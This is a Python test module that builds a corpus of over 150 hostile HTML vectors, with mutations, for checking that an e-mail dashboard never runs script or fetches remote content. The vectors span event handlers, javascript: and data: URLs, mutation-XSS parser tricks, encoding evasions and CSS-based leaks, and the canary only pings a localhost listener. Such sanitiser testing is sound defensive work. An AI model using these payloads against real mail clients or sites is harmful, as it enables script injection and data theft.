"""The hostile HTML corpus of issue 11, matrix 6: vectors that try to run script or fetch
something when an e-mail is shown in the dashboard.

Each :class:`Vector` is a template. :meth:`Vector.render` fills in, for one vector id:

- ``%JS%``: the canary, JavaScript that, if it ever ran, would log ``PWNED <id>`` to the console,
  open an ``alert``, set ``document.title``, ``fetch`` the listener and set ``top.name`` — each
  of which the browser test listens for;
- ``%JSURL%``: the canary as a ``javascript:`` URL; ``%JSENT%``: the same, every character a
  numeric character reference; ``%B64%``: ``<script>`` + canary as base64 (for ``data:`` URLs);
- ``%LEAK%``: a URL on the test's listener (127.0.0.1) that must never be requested;
- ``%IMG%``: a URL on the listener for a plain remote ``<img src>``, which may be requested only
  after the reader clicks "Show remote images".

:func:`corpus` is the hand-written list (``len(corpus()) >= 150``); :func:`mutations` derives
more from it (case, entities, whitespace and NUL inside names) for the large run. Families:
script, handler (one per event-handler attribute), url, svg, base, form, meta, srcdoc, css,
srcset, remote, mxss, encoded.
"""

from __future__ import annotations

import base64
import random
import re
from dataclasses import dataclass

CANARY_MARK = "PWNED"
_OPEN_ENDED = (
    "<plaintext",
    "%js%//",
    "<mglyph><style><img",
    "<svg></p><style>",
    "<form><math><mtext></form>",
    "<frameset",
    "<select><template>",
)
_PLACEHOLDER = re.compile(r"%(?:JSURL|JSENT|JS|B64|LEAK|IMG)%", re.IGNORECASE)


@dataclass(frozen=True)
class Vector:
    """One hostile snippet; ``images`` is how many plain remote ``<img>`` it has (``%IMG%``)."""

    id: str
    family: str
    template: str

    @property
    def images(self) -> int:
        return self.template.count("%IMG%")

    @property
    def isolate(self) -> bool:
        """Whether the vector leaves the parser in a state that swallows or re-reads whatever
        follows it (raw text to the end, foreign content left open): it is mailed alone."""
        return any(marker in self.template.lower() for marker in _OPEN_ENDED)

    def canary(self, base: str) -> str:
        mark = f"{CANARY_MARK} {self.id}"
        return (
            f"console.log('{mark}');alert('{mark}');document.title='{mark}';"
            f"fetch('{base}/canary/{self.id}');top.name='{mark}'"
        )

    def render(self, base: str) -> str:
        """The snippet for a listener at ``base`` (``http://127.0.0.1:PORT``)."""
        js = self.canary(base)
        jsurl = "javascript:" + js
        script_html = f'<script>{js}</script><img src=x onerror="{js}">'
        return (
            self.template.replace("%JSURL%", jsurl)
            .replace("%JSENT%", "".join(f"&#{ord(c)};" for c in jsurl))
            .replace("%B64%", base64.b64encode(script_html.encode()).decode())
            .replace("%JS%", js)
            .replace("%LEAK%", f"{base}/leak/{self.id}")
            .replace("%IMG%", f"{base}/img/{self.id}.gif")
        )

    def one_line(self, base: str) -> str:
        """The rendered snippet on one line, for a header (subject, display name, file name)."""
        return " ".join(self.render(base).split())


# Event-handler attributes, each on an element that fires it by itself where one exists
# (autofocus, a broken image, an animation, an open <details> …) and on hover/focus otherwise.
HANDLERS: list[tuple[str, str]] = [
    ("onerror", '<img src="x:broken" onerror="%JS%">'),
    ("onerror", '<video><source src="x:broken" onerror="%JS%"></video>'),
    ("onerror", '<audio src="x:broken" onerror="%JS%"></audio>'),
    ("onerror", '<object data="x:broken" onerror="%JS%"></object>'),
    ("onload", '<body onload="%JS%">'),
    ("onload", '<svg onload="%JS%"><rect width="1" height="1"/></svg>'),
    ("onload", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="%JS%">'),
    ("onload", '<iframe onload="%JS%"></iframe>'),
    ("onload", '<style onload="%JS%"></style>'),
    ("onpageshow", '<body onpageshow="%JS%">'),
    ("onresize", '<body onresize="%JS%">'),
    ("onhashchange", '<body onhashchange="%JS%">'),
    ("onmessage", '<body onmessage="%JS%">'),
    ("onbeforeunload", '<body onbeforeunload="%JS%">'),
    ("onunload", '<body onunload="%JS%">'),
    ("onpopstate", '<body onpopstate="%JS%">'),
    ("onfocus", '<input autofocus onfocus="%JS%">'),
    ("onfocus", '<select autofocus onfocus="%JS%"><option>a</option></select>'),
    ("onfocus", '<textarea autofocus onfocus="%JS%"></textarea>'),
    ("onfocus", '<keygen autofocus onfocus="%JS%">'),
    ("onfocus", '<a href="https://example.com/" tabindex="1" autofocus onfocus="%JS%">focus</a>'),
    ("onfocusin", '<div tabindex="0" autofocus onfocusin="%JS%">focusin</div>'),
    ("onblur", '<input autofocus onblur="%JS%"><input autofocus>'),
    ("onmouseover", '<div onmouseover="%JS%">hover over me</div>'),
    ("onmouseenter", '<p onmouseenter="%JS%">enter</p>'),
    ("onmousemove", '<h2 onmousemove="%JS%">move</h2>'),
    ("onmouseout", '<span onmouseout="%JS%">out</span>'),
    ("onmouseleave", '<b onmouseleave="%JS%">leave</b>'),
    ("onpointerover", '<i onpointerover="%JS%">pointer</i>'),
    ("onpointerenter", '<u onpointerenter="%JS%">pointer enter</u>'),
    ("onpointermove", '<em onpointermove="%JS%">pointer move</em>'),
    ("onclick", '<button onclick="%JS%">click</button>'),
    ("ondblclick", '<div ondblclick="%JS%">double</div>'),
    ("onmousedown", '<div onmousedown="%JS%">down</div>'),
    ("onmouseup", '<div onmouseup="%JS%">up</div>'),
    ("onauxclick", '<div onauxclick="%JS%">aux</div>'),
    ("oncontextmenu", '<div oncontextmenu="%JS%">menu</div>'),
    ("onwheel", '<div onwheel="%JS%">wheel</div>'),
    ("onkeydown", '<input autofocus onkeydown="%JS%">'),
    ("onkeyup", '<input autofocus onkeyup="%JS%">'),
    ("onkeypress", '<input autofocus onkeypress="%JS%">'),
    ("oninput", '<div contenteditable autofocus oninput="%JS%">edit</div>'),
    ("onchange", '<input autofocus onchange="%JS%">'),
    ("oninvalid", '<form><input required oninvalid="%JS%" autofocus><input type=submit></form>'),
    ("onsubmit", '<form onsubmit="%JS%"><input type=submit autofocus></form>'),
    ("onreset", '<form onreset="%JS%"><input type=reset autofocus></form>'),
    ("onselect", '<input value="select me" autofocus onselect="%JS%">'),
    ("onselectstart", '<div onselectstart="%JS%">select</div>'),
    ("oncopy", '<div oncopy="%JS%">copy</div>'),
    ("oncut", '<div contenteditable oncut="%JS%">cut</div>'),
    ("onpaste", '<div contenteditable onpaste="%JS%">paste</div>'),
    ("ondrag", '<div draggable="true" ondrag="%JS%">drag</div>'),
    ("ondragstart", '<div draggable="true" ondragstart="%JS%">drag start</div>'),
    ("ondrop", '<div ondrop="%JS%">drop</div>'),
    ("onscroll", '<div onscroll="%JS%"><br><br><br><input autofocus></div>'),
    ("onscrollend", '<div onscrollend="%JS%">scroll end</div>'),
    (
        "onanimationstart",
        '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="%JS%">anim</p>',
    ),
    (
        "onanimationend",
        "<style>@keyframes y{}</style>"
        '<p style="animation:y 1ms" onanimationend="%JS%">anim end</p>',
    ),
    ("onanimationiteration", '<p style="animation:x 1ms 2" onanimationiteration="%JS%">it</p>'),
    ("onwebkitanimationstart", '<p style="animation-name:x" onwebkitanimationstart="%JS%">w</p>'),
    ("ontransitionend", '<p style="transition:color 1ms" ontransitionend="%JS%">tr</p>'),
    ("ontransitionrun", '<p style="transition:all 1ms" ontransitionrun="%JS%">run</p>'),
    ("ontoggle", '<details open ontoggle="%JS%"><summary>t</summary>toggled</details>'),
    ("onbeforetoggle", '<div popover id="p" onbeforetoggle="%JS%">pop</div>'),
    ("onbegin", '<svg><animate onbegin="%JS%" attributeName="x" dur="1s"/></svg>'),
    ("onend", '<svg><animate onend="%JS%" attributeName="x" dur="1ms"/></svg>'),
    (
        "onrepeat",
        '<svg><animate onrepeat="%JS%" attributeName="x" dur="1ms" repeatCount="2"/></svg>',
    ),
    ("onbegin", '<svg><set onbegin="%JS%" attributeName="x" to="1"/></svg>'),
    ("onstart", '<marquee onstart="%JS%">marquee</marquee>'),
    ("onfinish", '<marquee loop="1" onfinish="%JS%">fin</marquee>'),
    ("onbounce", '<marquee behavior="alternate" onbounce="%JS%">bounce</marquee>'),
    ("onplay", '<video autoplay muted onplay="%JS%"><source src="%LEAK%.mp4"></video>'),
    ("onloadstart", '<video src="x:broken" onloadstart="%JS%"></video>'),
    ("oncanplay", '<audio src="x:broken" oncanplay="%JS%"></audio>'),
    ("onsuspend", '<video src="x:broken" onsuspend="%JS%"></video>'),
    ("onemptied", '<video src="x:broken" onemptied="%JS%"></video>'),
    ("onbeforeprint", '<body onbeforeprint="%JS%">'),
    ("onafterprint", '<body onafterprint="%JS%">'),
    ("onsearch", '<input type="search" autofocus onsearch="%JS%">'),
    ("ontouchstart", '<div ontouchstart="%JS%">touch</div>'),
    ("onformdata", '<form onformdata="%JS%"><button>fd</button></form>'),
    (
        "oncontentvisibilityautostatechange",
        '<div style="content-visibility:auto" oncontentvisibilityautostatechange="%JS%">cv</div>',
    ),
    ("onfullscreenchange", '<div onfullscreenchange="%JS%">fs</div>'),
    ("onload", '<link rel="stylesheet" href="data:text/css," onload="%JS%">'),
    ("onerror", '<script src="x:broken" onerror="%JS%"></script>'),
]

FAMILIES: list[tuple[str, list[str]]] = [
    (
        "script",
        [
            "<script>%JS%</script>",
            '<script src="%LEAK%.js"></script>',
            "<SCRIPT>%JS%</SCRIPT>",
            '<script type="module">%JS%</script>',
            "<script>/*</script><script>*/%JS%</script>",
            "<scr<script>ipt>%JS%</scr</script>ipt>",
            "<script/x>%JS%</script>",
            "<script\n>%JS%</script\n>",
            '<script src="data:text/javascript,%JS%"></script>',
            "<svg><script>%JS%</script></svg>",
            '<svg><script href="%LEAK%.js"/></svg>',
            "<script>%JS%//",
        ],
    ),
    (
        "url",
        [
            '<a href="%JSURL%">a javascript: link</a>',
            '<a href="JaVaScRiPt:%JS%">mixed case</a>',
            '<a href="java\tscript:%JS%">tab inside</a>',
            '<a href="java\nscript:%JS%">newline inside</a>',
            '<a href=" \x01javascript:%JS%">control char before</a>',
            '<a href="%JSENT%">all entities</a>',
            '<a href="javascript&colon;%JS%">named colon</a>',
            '<a href="vbscript:msgbox(1)">vbscript</a>',
            '<a href="data:text/html;base64,%B64%">data html</a>',
            '<a href="data:text/html,<script>%JS%</script>">data html plain</a>',
            '<iframe src="%JSURL%"></iframe>',
            '<iframe src="data:text/html;base64,%B64%"></iframe>',
            '<form action="%JSURL%"><input type="submit" value="go"></form>',
            '<form><button formaction="%JSURL%">formaction</button></form>',
            '<form><input type="submit" formaction="%JSURL%" value="input formaction"></form>',
            '<object data="%JSURL%"></object>',
            '<object data="data:text/html;base64,%B64%"></object>',
            '<embed src="data:text/html;base64,%B64%">',
            '<embed src="%JSURL%">',
            '<img src="%JSURL%">',
            '<img src="data:image/svg+xml;base64,%B64%">',
            '<svg><a xlink:href="%JSURL%"><text y="20">xlink</text></a></svg>',
            '<svg><a href="%JSURL%"><text y="20">svg href</text></a></svg>',
            '<math href="%JSURL%"><mi>math href</mi></math>',
            '<map name="m"><area shape="rect" coords="0,0,9,9" href="%JSURL%"></map>',
            '<frameset><frame src="%JSURL%"></frameset>',
            '<a href="cid:%JS%">cid link</a>',
            '<a href="//127.0.0.1:1/protocol-relative">protocol-relative</a>',
            '<blockquote cite="%JSURL%">cite</blockquote>',
            '<q cite="data:text/html;base64,%B64%">q cite</q>',
        ],
    ),
    (
        "svg",
        [
            '<svg><animate xlink:href="#a" attributeName="href" values="%JSURL%"/>'
            '<a id="a"><text y="20">animate href</text></a></svg>',
            '<svg><a><animate attributeName="href" values="%JSURL%"/><text y="20">click</text>'
            "</a></svg>",
            '<svg><a><set attributeName="href" to="%JSURL%"/><text y="20">set</text></a></svg>',
            '<svg><a><set attributeName="xlink:href" to="%JSURL%"/><text y="20">x</text></a></svg>',
            '<svg><animate attributeName="onload" to="%JS%"/></svg>',
            '<svg><discard onbegin="%JS%"/></svg>',
            '<svg><image href="%LEAK%.svg"/></svg>',
            '<svg><feImage href="%LEAK%.png"/></svg>',
            '<svg><use href="%LEAK%.svg#x"/></svg>',
            '<svg><use href="data:image/svg+xml;base64,%B64%#x"/></svg>',
            '<svg><foreignObject><iframe srcdoc="&lt;script&gt;%JS%&lt;/script&gt;"></iframe>'
            "</foreignObject></svg>",
            '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">%JS%'
            "</handler></svg>",
        ],
    ),
    (
        "base",
        [
            '<base href="%LEAK%/"><img src="relative.png"><a href="relative">relative</a>',
            '<base href="%JSURL%//"><a href="/x">base javascript</a>',
            '<base target="_top"><a href="https://example.com/">base target</a>',
        ],
    ),
    (
        "form",
        [
            '<form action="%LEAK%" method="post"><input name="code" value="771204" autofocus>'
            "<button>Send</button></form>",
            '<form action="%LEAK%"><input type="image" src="%LEAK%.png"></form>',
            '<isindex action="%LEAK%" autofocus>',
            '<form id="f" action="%LEAK%"></form><button form="f" autofocus>outside</button>',
            '<input type="password" name="password" autocomplete="current-password">',
            '<form method="dialog"><button autofocus>dialog</button></form>',
        ],
    ),
    (
        "meta",
        [
            '<meta http-equiv="refresh" content="0;url=%JSURL%">',
            '<meta http-equiv="refresh" content="0;url=data:text/html;base64,%B64%">',
            '<meta http-equiv="refresh" content="0; url=%LEAK%">',
            '<meta http-equiv="Set-Cookie" content="sessionid=stolen">',
            '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
            '<meta name="referrer" content="unsafe-url">',
        ],
    ),
    (
        "srcdoc",
        [
            '<iframe srcdoc="<script>%JS%</script>"></iframe>',
            '<iframe srcdoc="&lt;img src=x onerror=&quot;%JS%&quot;&gt;"></iframe>',
            '<iframe srcdoc="&#60;script&#62;%JS%&#60;/script&#62;"></iframe>',
            '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>%JS%</script>">'
            "</iframe>",
        ],
    ),
    (
        "css",
        [
            '<style>@import url("%LEAK%.css");</style>',
            "<style>@import '%LEAK%-2.css';</style>",
            "<style>body{background:url(%LEAK%.png)}</style>",
            "<style>@font-face{font-family:x;src:url(%LEAK%.woff)}p{font-family:x}</style>",
            '<style>input[value^="7"]{background:url(%LEAK%-exfil)}</style><input value="771204">',
            '<p style="background:url(%LEAK%-inline.png)">inline style</p>',
            "<p style=\"background-image:image-set('%LEAK%-set.png' 1x)\">image-set</p>",
            '<ul style="list-style:url(%LEAK%-list.png)"><li>list</li></ul>',
            '<p style="cursor:url(%LEAK%.cur),auto">cursor</p>',
            '<p style="border-image:url(%LEAK%-border.png) 30">border</p>',
            '<p style="-webkit-mask-image:url(%LEAK%-mask.png)">mask</p>',
            '<p style="width:expression(%JS%)">expression</p>',
            "<p style=\"background:u\\72l('%LEAK%-escaped.png')\">escaped url</p>",
            '<link rel="stylesheet" href="%LEAK%.css">',
            '<link rel="preload" as="image" href="%LEAK%-preload.png">',
            '<link rel="prefetch" href="%LEAK%-prefetch">',
            '<link rel="icon" href="%LEAK%.ico">',
            '<link rel="dns-prefetch" href="//leak.invalid">',
            "<style>@namespace url(%LEAK%-ns);</style>",
            "<div style=\"content:url('%LEAK%-content.png')\">content</div>",
        ],
    ),
    (
        "srcset",
        [
            '<img srcset="%LEAK%-1x.png 1x, %LEAK%-2x.png 2x">',
            '<picture><source srcset="%LEAK%-source.png"><img alt="picture"></picture>',
            '<img src="data:," srcset="%LEAK%-w.png 100w" sizes="50vw">',
            '<link rel="preload" as="image" imagesrcset="%LEAK%-imagesrcset.png 1x">',
        ],
    ),
    (
        "remote",
        [
            '<img src="%IMG%" alt="a remote image">',
            '<IMG SRC="%IMG%" alt="upper-case image">',
            '<video poster="%LEAK%-poster.png"></video>',
            '<audio src="%LEAK%.mp3" autoplay></audio>',
            '<video><track src="%LEAK%.vtt"></video>',
            '<table background="%LEAK%-table.png"><tr><td background="%LEAK%-td.png">t</td>'
            "</tr></table>",
            '<body background="%LEAK%-body.png">',
            '<object data="%LEAK%-object"></object>',
            '<embed src="%LEAK%-embed">',
            '<iframe src="%LEAK%-iframe"></iframe>',
            '<frameset><frame src="%LEAK%-frame"></frameset>',
            '<applet code="x" codebase="%LEAK%-applet"></applet>',
            '<portal src="%LEAK%-portal"></portal>',
            '<a href="https://example.com/" ping="%LEAK%-ping">ping</a>',
            '<img src="x:broken" lowsrc="%LEAK%-low.png" dynsrc="%LEAK%-dyn.avi"'
            ' longdesc="%LEAK%-desc">',
            '<bgsound src="%LEAK%.wav">',
            '<html manifest="%LEAK%.appcache">',
            '<img src="//127.0.0.1:9/protocol-relative.png">',
            '<a href="%LEAK%-link">a plain link to the listener (hovered, never followed)</a>',
            '<a href="%LEAK%-hover"><h1>a big link, hovered and focused</h1><p>%LEAK%</p></a>',
        ],
    ),
    (
        "mxss",
        [
            '<noscript><p title="</noscript><img src=x onerror=\\"%JS%\\">"></noscript>',
            '<template><script>%JS%</script><img src=x onerror="%JS%"></template>',
            '<math><mtext><table><mglyph><style><img src=x onerror="%JS%">',
            '<svg></p><style><a id="</style><img src=1 onerror=\\"%JS%\\">">',
            '<form><math><mtext></form><form><mglyph><style></math><img src onerror="%JS%">',
            '<svg><foreignObject><img src="x:broken" onerror="%JS%"></foreignObject></svg>',
            '<svg><style><img src="x:broken" onerror="%JS%"></style></svg>',
            '<xmp><img title="</xmp><img src=x onerror=\\"%JS%\\">"></xmp>',
            '<noembed><img title="</noembed><img src=x onerror=\\"%JS%\\">"></noembed>',
            '<noframes><img title="</noframes><img src=x onerror=\\"%JS%\\">"></noframes>',
            '<iframe><img title="</iframe><img src=x onerror=\\"%JS%\\">"></iframe>',
            '<textarea><img title="</textarea><img src=x onerror=\\"%JS%\\">"></textarea>',
            '<title><img title="</title><img src=x onerror=\\"%JS%\\">"></title>',
            '<!--><img src=x onerror="%JS%">-->',
            '<![CDATA[><img src=x onerror="%JS%">]]>',
            '<? ><img src=x onerror="%JS%"> ?>',
            '<img src="x" `onerror="%JS%"`>',
            '<a href="https://example.com/"onmouseover="%JS%">no space</a>',
            '<img/src="x:broken"/onerror="%JS%">',
            '<img src="x:broken" onerror\x0c="%JS%">',
            '<svg><![CDATA[<img src=x onerror="%JS%">]]></svg>',
            '<math><annotation-xml encoding="text/html"><img src=x onerror="%JS%">'
            "</annotation-xml></math>",
            '<select><template><style><img src=x onerror="%JS%"></style></template></select>',
            '<table><tr><td><svg><desc><table></table><img src=x onerror="%JS%"></desc></svg>',
            '<p id="</p><img src=x onerror=\\"%JS%\\">">attribute with markup</p>',
            '<div title="&lt;img src=x onerror=&quot;%JS%&quot;&gt;">escaped markup in title</div>',
            '<a href="https://example.com/" title="\'><img src=x onerror=%JS%>">quotes</a>',
            '<svg><title><img src=x onerror="%JS%"></title></svg>',
            '<math><style><img src=x onerror="%JS%"></style></math>',
            "<plaintext><script>%JS%</script>",
        ],
    ),
    (
        "encoded",
        [
            "<IMG SRC=JaVaScRiPt:%JS%>",
            '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:%JS%">hex</a>',
            '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58%JS%">dec, no ;</a>',
            '<a href="java&Tab;script:%JS%">&amp;Tab;</a>',
            '<a href="java&NewLine;script:%JS%">&amp;NewLine;</a>',
            '<a href="jav&#x09;ascript:%JS%">&amp;#x09;</a>',
            '<a href="jav&#x0A;ascript:%JS%">&amp;#x0A;</a>',
            '<a href="jav&#x0D;ascript:%JS%">&amp;#x0D;</a>',
            '<a href="  javascript:%JS%">leading spaces</a>',
            '<a href="javascript\x00:%JS%">NUL</a>',
            '<a href="%6Aavascript:%JS%">percent-encoded scheme</a>',
            "<ScRiPt>%JS%</sCrIpT>",
            '<iMg SrC="x:broken" OnErRoR="%JS%">',
            "&lt;script&gt;%JS%&lt;/script&gt; (escaped text stays text)",
            "\uff1cscript\uff1e%JS%\uff1c/script\uff1e (full-width brackets)",
            "+ADw-script+AD4-%JS%+ADw-/script+AD4- (UTF-7)",
            '<img src="x:broken" o\x00nerror="%JS%">',
            "<scr\x00ipt>%JS%</scr\x00ipt>",
            '<a href="data:text/html;charset=utf-7,+ADw-script+AD4-%JS%+ADw-/script+AD4-">u7</a>',
            '<a href="\u2028javascript:%JS%">line separator</a>',
        ],
    ),
]


def corpus() -> list[Vector]:
    """Every hand-written vector, numbered ``hx001`` … in a fixed order."""
    items: list[tuple[str, str]] = [("handler:" + name, html) for name, html in HANDLERS]
    items += [(family, html) for family, templates in FAMILIES for html in templates]
    return [Vector(f"hx{n:03d}", family, html) for n, (family, html) in enumerate(items, 1)]


def handler_names() -> set[str]:
    """The distinct event-handler attributes the corpus uses."""
    return {name for name, _ in HANDLERS}


def _random_case(text: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def mutations(vectors: list[Vector], count: int, seed: int = 11) -> list[Vector]:
    """``count`` variants of ``vectors`` for the large run: random case of tag and attribute
    names, numeric character references in attribute values, whitespace and ``/`` between
    attributes, duplicated attributes — deterministic for a given ``seed``."""
    rng = random.Random(seed)
    out: list[Vector] = []
    for n in range(count):
        base = vectors[n % len(vectors)]
        html = base.template
        kind = n % 5
        if kind == 0:
            html = _fix_placeholders(_random_case(html, rng))
        elif kind == 1:
            html = html.replace('="', '="' + "".join(rng.choice([" ", "\t", "\n"]) for _ in "ab"))
        elif kind == 2:
            html = html.replace(" ", rng.choice(["/", "\n", "\t", "\x0c", " / "]))
        elif kind == 3:
            html = html.replace(":%JS%", "&#x3A;%JS%").replace("script:", "script&colon;")
        else:
            html = html.replace("<", "<" * 2, 1) + html
        out.append(Vector(f"mx{n:05d}", "mutation:" + base.family, html))
    return out


def _fix_placeholders(html: str) -> str:
    """Restores the placeholders a random case change spelled differently."""
    return _PLACEHOLDER.sub(lambda m: m.group(0).upper(), html)
